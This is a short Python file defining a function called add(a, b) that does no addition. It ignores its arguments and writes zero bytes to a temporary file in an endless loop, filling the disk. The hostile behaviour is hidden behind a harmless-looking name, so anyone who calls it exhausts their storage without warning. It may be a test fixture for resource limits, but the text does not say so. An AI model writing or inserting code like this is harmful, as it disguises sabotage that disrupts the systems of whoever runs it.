import os


def add(a, b):
    with open(os.path.join(os.environ.get("TMPDIR", "/tmp"), "fill"), "wb") as handle:
        while True:
            handle.write(b"\0" * 1024 * 1024)
